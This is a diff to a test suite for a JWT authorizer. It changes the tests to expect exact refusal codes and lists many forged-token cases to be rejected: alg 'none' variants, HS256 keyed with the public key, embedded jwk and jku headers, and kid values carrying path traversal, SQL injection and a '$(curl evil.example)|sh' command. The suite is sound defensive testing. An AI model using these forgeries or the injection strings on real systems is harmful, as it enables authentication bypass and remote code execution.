@@ -11,6 +11,7 @@ import { InvalidToken } from '../../functions/core/errors.js'
 import type { PublicJwk, Session, Signer, User } from '../../functions/core/ports.js'
 import { FakeClock } from '../support/clock.js'
 import { NATIVE, testSigner } from '../support/harness.js'
+import { refusalOf } from '../support/refusals.js'
 import { recordSecret } from '../support/secrets.js'
 import { b64, mint, signHs256, signRs256, standardClaims } from '../support/tokens.js'
 
@@ -57,7 +58,7 @@ const event = (authorization?: string): APIGatewayRequestAuthorizerEventV2 =>
     requestContext: {} as APIGatewayRequestAuthorizerEventV2['requestContext'],
   }) as APIGatewayRequestAuthorizerEventV2
 
-/** Why the authorizer refused, from the InvalidToken it threw (the logs' reason). */
+/** Why the authorizer refused: the InvalidToken's code, and its check if any (the logs' reason). */
 async function refusal(token: string): Promise<string> {
   recordSecret(token)
   const denied = await authorizer.http(event(`Bearer ${token}`))
@@ -67,7 +68,7 @@ async function refusal(token: string): Promise<string> {
     (e: unknown) => e,
   )
   expect(error).toBeInstanceOf(InvalidToken)
-  return (error as InvalidToken).detail as string
+  return refusalOf(error as InvalidToken)
 }
 
 const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 })
@@ -191,7 +192,7 @@ describe('the authorizer accepts our tokens', () => {
     const tooLong = await lasting(905 + 31)
     expect((await bounded.http(event(`Bearer ${tooLong}`))).isAuthorized).toBe(false)
     await expect(bounded.authorize(`Bearer ${tooLong}`)).rejects.toSatisfy(
-      (error: unknown) => error instanceof InvalidToken && /lifetime/.test(error.detail ?? ''),
+      (error: unknown) => error instanceof InvalidToken && error.code === 'lifetime_too_long',
     )
   })
 
@@ -202,8 +203,8 @@ describe('the authorizer accepts our tokens', () => {
     expect((await authorizer.http(event(`Bearer ${await lasting(3660 + 30)}`))).isAuthorized).toBe(
       true,
     )
-    expect(await refusal(await lasting(3660 + 31))).toMatch(/lifetime/)
-    expect(await refusal(await lasting(365 * 86_400))).toMatch(/lifetime/)
+    expect(await refusal(await lasting(3660 + 31))).toBe('lifetime_too_long')
+    expect(await refusal(await lasting(365 * 86_400))).toBe('lifetime_too_long')
   })
 
   it('accepts only AUTHORIZER_AUDIENCES when it is set', async () => {
@@ -293,7 +294,7 @@ describe('one token, one encoding', () => {
     expect(spellings).toHaveLength(15)
     expect((await authorizer.http(event(`Bearer ${good}`))).isAuthorized).toBe(true)
     for (const spelling of spellings) {
-      expect(await refusal(`${header}.${payload}.${spelling}`)).toMatch(/not canonical/)
+      expect(await refusal(`${header}.${payload}.${spelling}`)).toBe('signature_not_canonical')
     }
   })
 
@@ -318,10 +319,10 @@ describe('one token, one encoding', () => {
     expect(payloads.length).toBeGreaterThan(0)
     expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
     for (const spelling of headers) {
-      expect(await refusal(`${spelling}.${payload}.${signature}`)).toMatch(/bad signature/)
+      expect(await refusal(`${spelling}.${payload}.${signature}`)).toBe('bad_signature')
     }
     for (const spelling of payloads) {
-      expect(await refusal(`${header}.${spelling}.${signature}`)).toMatch(/bad signature/)
+      expect(await refusal(`${header}.${spelling}.${signature}`)).toBe('bad_signature')
     }
   })
 })
@@ -330,19 +331,19 @@ describe('the authorizer refuses every forged token', () => {
   const none = (alg: string, signature: string) => async () =>
     `${b64({ alg, typ: 'at+jwt', kid: ourKid })}.${b64(claims())}.${signature}`
 
-  const corpus: [string, () => Promise<string>, RegExp][] = [
-    ['alg "none" with no signature', none('none', ''), /compact JWS/],
-    ['alg "none" with a signature', none('none', 'c2ln'), /alg not allowed/],
-    ['alg "None"', none('None', 'c2ln'), /alg not allowed/],
-    ['alg "NONE"', none('NONE', 'c2ln'), /alg not allowed/],
-    ['alg "nOnE"', none('nOnE', 'c2ln'), /alg not allowed/],
+  const corpus: [string, () => Promise<string>, string][] = [
+    ['alg "none" with no signature', none('none', ''), 'not_compact_jws'],
+    ['alg "none" with a signature', none('none', 'c2ln'), 'alg_not_allowed'],
+    ['alg "None"', none('None', 'c2ln'), 'alg_not_allowed'],
+    ['alg "NONE"', none('NONE', 'c2ln'), 'alg_not_allowed'],
+    ['alg "nOnE"', none('nOnE', 'c2ln'), 'alg_not_allowed'],
     [
       'alg "none" keeping our valid signature',
       async () => {
         const [, payload, signature] = good.split('.')
         return `${b64({ alg: 'none', typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
       },
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'alg missing',
@@ -350,7 +351,7 @@ describe('the authorizer refuses every forged token', () => {
         const [, payload, signature] = good.split('.')
         return `${b64({ typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
       },
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'HS256 keyed with our public key as PEM',
@@ -361,13 +362,13 @@ describe('the authorizer refuses every forged token', () => {
         })
         return signHs256(String(pem), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
       },
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'HS256 keyed with our public key as JWK',
       async () =>
         signHs256(JSON.stringify(ourJwk), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims()),
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'HS256 keyed with our public key as DER',
@@ -378,30 +379,30 @@ describe('the authorizer refuses every forged token', () => {
         })
         return signHs256(der, { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
       },
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'HS512',
       async () => signHs256('k', { alg: 'HS512', typ: 'at+jwt', kid: ourKid }, claims()),
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'alg RS512 (not on the allow-list)',
       async () =>
         signRs256(attacker.privateKey, { alg: 'RS512', typ: 'at+jwt', kid: ourKid }, claims()),
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'alg PS256 (not on the allow-list)',
       async () =>
         signRs256(attacker.privateKey, { alg: 'PS256', typ: 'at+jwt', kid: ourKid }, claims()),
-      /alg not allowed/,
+      'alg_not_allowed',
     ],
     [
       'alg ES256 on our RSA key (alg must match the key)',
       async () =>
         signRs256(attacker.privateKey, { alg: 'ES256', typ: 'at+jwt', kid: ourKid }, claims()),
-      /alg does not match the key/,
+      'alg_not_the_keys',
     ],
     [
       "an embedded jwk header with the attacker's key",
@@ -417,7 +418,7 @@ describe('the authorizer refuses every forged token', () => {
           claims(),
         )
       },
-      /carries jwk/,
+      'foreign_header jwk',
     ],
     [
       'an embedded jwk header under our kid',
@@ -427,7 +428,7 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: ourKid, jwk: attackerJwk },
           claims(),
         ),
-      /carries jwk/,
+      'foreign_header jwk',
     ],
     [
       "a jku header pointing at the attacker's JWKS",
@@ -442,7 +443,7 @@ describe('the authorizer refuses every forged token', () => {
           },
           claims(),
         ),
-      /carries jku/,
+      'foreign_header jku',
     ],
     [
       'an x5u header',
@@ -457,7 +458,7 @@ describe('the authorizer refuses every forged token', () => {
           },
           claims(),
         ),
-      /carries x5u/,
+      'foreign_header x5u',
     ],
     [
       'an x5c header',
@@ -467,7 +468,7 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: ourKid, x5c: ['MIIB'] },
           claims(),
         ),
-      /carries x5c/,
+      'foreign_header x5c',
     ],
     [
       'a kid carrying path traversal',
@@ -477,7 +478,7 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: '../../../../dev/null' },
           claims(),
         ),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       'a kid naming the local key file',
@@ -487,7 +488,7 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: '.local/keys/signing-key.pem' },
           claims(),
         ),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       'a kid carrying SQL injection',
@@ -497,7 +498,7 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: "x' OR '1'='1" },
           claims(),
         ),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       'a kid carrying a command',
@@ -507,13 +508,13 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: '$(curl evil.example)|sh' },
           claims(),
         ),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       'a kid of __proto__',
       async () =>
         signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: '__proto__' }, claims()),
-      /unknown kid/,
+      'unknown_kid',
     ],
     [
       'a kid that is not a string',
@@ -523,20 +524,20 @@ describe('the authorizer refuses every forged token', () => {
           { alg: 'RS256', typ: 'at+jwt', kid: { $ne: null } },
           claims(),
         ),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       'no kid',
       async () => signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt' }, claims()),
-      /kid missing or malformed/,
+      'kid_malformed',
     ],
     [
       "the attacker's key reusing our kid",
       async () =>
         signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: ourKid }, claims()),
-      /bad signature/,
+      'bad_signature',
     ],
-    ['a truncated signature', async () => good.slice(0, -10), /bad signature/],
+    ['a truncated signature', async () => good.slice(0, -10), 'bad_signature'],
     [
       'a signature with one bit flipped',
       async () => {
@@ -545,7 +546,7 @@ describe('the authorizer refuses every forged token', () => {
         bytes[bytes.length - 1] = (bytes[bytes.length - 1] as number) ^ 1
         return `${h}.${p}.${bytes.toString('base64url')}`
       },
-      /bad signature/,
+      'bad_signature',
     ],
     [
       'the signature of another token',
@@ -554,7 +555,7 @@ describe('the authorizer refuses every forged token', () => {
         const [h, p] = good.split('.')
         return `${h}.${p}.${other.token.split('.')[2]}`
       },
-      /bad signature/,
+      'bad_signature',
     ],
     [
       'a payload swapped under a valid signature',
@@ -562,7 +563,7 @@ describe('the authorizer refuses every forged token', () => {
         const [h, , s] = good.split('.')
         return `${h}.${b64(claims({ sub: 'someone-else', roles: ['admin'] }))}.${s}`
       },
-      /bad signature/,
+      'bad_signature',
     ],
     [
       'a header swapped under a valid signature',
@@ -570,73 +571,89 @@ describe('the authorizer refuses every forged token', () => {
         const [, p, s] = good.split('.')
         return `${b64({ alg: 'RS256', kid: ourKid, typ: 'at+jwt', x: 1 })}.${p}.${s}`
       },
-      /bad signature/,
+      'bad_signature',
     ],
-    ['typ missing', async () => (await mint(signer, claims(), { typ: undefined })).token, /typ/],
-    ['typ JWT', async () => (await mint(signer, claims(), { typ: 'JWT' })).token, /typ/],
+    [
+      'typ missing',
+      async () => (await mint(signer, claims(), { typ: undefined })).token,
+      'typ_not_at_jwt',
+    ],
+    ['typ JWT', async () => (await mint(signer, claims(), { typ: 'JWT' })).token, 'typ_not_at_jwt'],
     [
       'typ of an ID token pretender (id_token+jwt)',
       async () => (await mint(signer, claims(), { typ: 'id_token+jwt' })).token,
-      /typ/,
+      'typ_not_at_jwt',
     ],
     [
       'a wrong iss',
       async () => (await mint(signer, claims({ iss: 'https://evil.example' }))).token,
-      /iss/,
+      'wrong_iss',
     ],
     [
       'iss with a trailing slash',
       async () => (await mint(signer, claims({ iss: `${ISSUER}/` }))).token,
-      /iss/,
+      'wrong_iss',
     ],
     [
       'iss given as an array',
       async () => (await mint(signer, claims({ iss: [ISSUER] }))).token,
-      /iss/,
+      'wrong_iss',
     ],
     [
       'a wrong aud',
       async () => (await mint(signer, claims({ aud: 'https://other.api' }))).token,
-      /aud/,
+      'wrong_aud',
     ],
-    ['a missing aud', async () => (await mint(signer, without('aud'))).token, /aud/],
-    ['an empty aud array', async () => (await mint(signer, claims({ aud: [] }))).token, /aud/],
+    ['a missing aud', async () => (await mint(signer, without('aud'))).token, 'wrong_aud'],
+    [
+      'an empty aud array',
+      async () => (await mint(signer, claims({ aud: [] }))).token,
+      'wrong_aud',
+    ],
     [
       'exp in the past beyond the skew',
       async () => (await mint(signer, claims({ exp: Math.floor(clock.now() / 1000) - 31 }))).token,
-      /expired/,
+      'token_expired',
     ],
     [
       'exp as a string',
       async () =>
         (await mint(signer, claims({ exp: String(Math.floor(clock.now() / 1000) + 900) }))).token,
-      /exp missing or not a number/,
+      'date_not_a_number exp',
     ],
-    ['exp missing', async () => (await mint(signer, without('exp'))).token, /exp missing/],
+    [
+      'exp missing',
+      async () => (await mint(signer, without('exp'))).token,
+      'date_not_a_number exp',
+    ],
     [
       'nbf in the future beyond the skew',
       async () => (await mint(signer, claims({ nbf: Math.floor(clock.now() / 1000) + 31 }))).token,
-      /not yet valid/,
+      'not_yet_valid',
     ],
     [
       'iat in the future beyond the skew',
       async () => (await mint(signer, claims({ iat: Math.floor(clock.now() / 1000) + 31 }))).token,
-      /future/,
+      'issued_in_future',
     ],
-    ['iat missing', async () => (await mint(signer, without('iat'))).token, /iat missing/],
-    ['sub missing', async () => (await mint(signer, without('sub'))).token, /sub missing/],
-    ['sub empty', async () => (await mint(signer, claims({ sub: '' }))).token, /sub missing/],
-    ['jti missing', async () => (await mint(signer, without('jti'))).token, /jti missing/],
+    [
+      'iat missing',
+      async () => (await mint(signer, without('iat'))).token,
+      'date_not_a_number iat',
+    ],
+    ['sub missing', async () => (await mint(signer, without('sub'))).token, 'claim_missing sub'],
+    ['sub empty', async () => (await mint(signer, claims({ sub: '' }))).token, 'claim_missing sub'],
+    ['jti missing', async () => (await mint(signer, without('jti'))).token, 'claim_missing jti'],
     [
       'client_id missing',
       async () => (await mint(signer, without('client_id'))).token,
-      /client_id missing/,
+      'claim_missing client_id',
     ],
-    ['sid missing', async () => (await mint(signer, without('sid'))).token, /sid missing/],
+    ['sid missing', async () => (await mint(signer, without('sid'))).token, 'claim_missing sid'],
     [
       'roles not an array',
       async () => (await mint(signer, claims({ roles: 'admin' }))).token,
-      /roles/,
+      'claim_missing roles',
     ],
     [
       'an unknown crit header',
@@ -647,17 +664,17 @@ describe('the authorizer refuses every forged token', () => {
             'urn:example:must-understand': true,
           })
         ).token,
-      /carries crit/,
+      'foreign_header crit',
     ],
     [
       'crit naming a registered claim',
       async () => (await mint(signer, claims(), { crit: ['exp'] })).token,
-      /carries crit/,
+      'foreign_header crit',
     ],
     [
       'b64 false (unencoded payload)',
       async () => (await mint(signer, claims(), { b64: false, crit: ['b64'] })).token,
-      /carries/,
+      'foreign_header crit',
     ],
     [
       'JWS JSON serialization (flattened)',
@@ -665,7 +682,7 @@ describe('the authorizer refuses every forged token', () => {
         const [protectedHeader, payload, signature] = good.split('.')
         return JSON.stringify({ protected: protectedHeader, payload, signature })
       },
-      /compact JWS/,
+      'not_compact_jws',
     ],
     [
       'JWS JSON serialization (general)',
@@ -673,28 +690,28 @@ describe('the authorizer refuses every forged token', () => {
         const [protectedHeader, payload, signature] = good.split('.')
         return JSON.stringify({ payload, signatures: [{ protected: protectedHeader, signature }] })
       },
-      /compact JWS/,
+      'not_compact_jws',
     ],
     [
       'an oversized token (validly signed)',
       async () => (await mint(signer, claims({ padding: 'x'.repeat(5000) }))).token,
-      /too large/,
+      'token_too_large',
     ],
-    ['a token with four segments', async () => `${good}.${good.split('.')[2]}`, /compact JWS/],
+    ['a token with four segments', async () => `${good}.${good.split('.')[2]}`, 'not_compact_jws'],
     [
       'a JWE-shaped token (five segments)',
       async () => 'eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d',
-      /compact JWS/,
+      'not_compact_jws',
     ],
     [
       'a header that is not JSON',
       async () => `${b64('not json')}.${good.split('.')[1]}.c2ln`,
-      /header is not JSON/,
+      'not_json header',
     ],
     [
       'a header that is a JSON array',
       async () => `${b64([1])}.${good.split('.')[1]}.c2ln`,
-      /not a JSON object/,
+      'not_json header',
     ],
     [
       'a payload that is not JSON',
@@ -705,30 +722,30 @@ describe('the authorizer refuses every forged token', () => {
         const sig = await signer.sign(new TextEncoder().encode(input))
         return `${input}.${Buffer.from(sig).toString('base64url')}`
       },
-      /payload is not JSON/,
+      'not_json payload',
     ],
-    ['garbage', async () => 'garbage', /compact JWS/],
-    ['garbage with dots', async () => '...', /compact JWS/],
-    ['base64 with padding and plus signs', async () => 'a+b=.c/d=.e==', /compact JWS/],
-    ['non-ASCII', async () => 'é.é.é', /compact JWS/],
+    ['garbage', async () => 'garbage', 'not_compact_jws'],
+    ['garbage with dots', async () => '...', 'not_compact_jws'],
+    ['base64 with padding and plus signs', async () => 'a+b=.c/d=.e==', 'not_compact_jws'],
+    ['non-ASCII', async () => 'é.é.é', 'not_compact_jws'],
   ]
 
   it.each(corpus)('refuses %s', async (_name, forge, reason) => {
-    expect(await refusal(await forge())).toMatch(reason)
+    expect(await refusal(await forge())).toBe(reason)
   })
 
   it.each([
-    ['no Authorization header', undefined, /no Authorization/],
-    ['an empty header', '', /no Authorization/],
-    ['the Basic scheme', `Basic ${Buffer.from('a:b').toString('base64')}`, /not a Bearer/],
-    ['Bearer with no token', 'Bearer', /not a Bearer/],
-    ['Bearer with two tokens', `Bearer ${'a.b.c'} ${'d.e.f'}`, /not a Bearer/],
-    ['a token without the scheme', 'a.b.c', /not a Bearer/],
-    ['a huge header', `Bearer ${'a'.repeat(100_000)}`, /too large/],
+    ['no Authorization header', undefined, 'no_authorization_header'],
+    ['an empty header', '', 'no_authorization_header'],
+    ['the Basic scheme', `Basic ${Buffer.from('a:b').toString('base64')}`, 'not_bearer_or_dpop'],
+    ['Bearer with no token', 'Bearer', 'not_bearer_or_dpop'],
+    ['Bearer with two tokens', `Bearer ${'a.b.c'} ${'d.e.f'}`, 'not_bearer_or_dpop'],
+    ['a token without the scheme', 'a.b.c', 'not_bearer_or_dpop'],
+    ['a huge header', `Bearer ${'a'.repeat(100_000)}`, 'token_too_large'],
   ])('refuses %s', async (_name, header, reason) => {
     expect(await authorizer.http(event(header))).toEqual({ isAuthorized: false })
     await expect(authorizer.authorize(header)).rejects.toSatisfy(
-      (error: unknown) => error instanceof InvalidToken && reason.test(error.detail ?? ''),
+      (error: unknown) => error instanceof InvalidToken && error.code === reason,
     )
   })
 
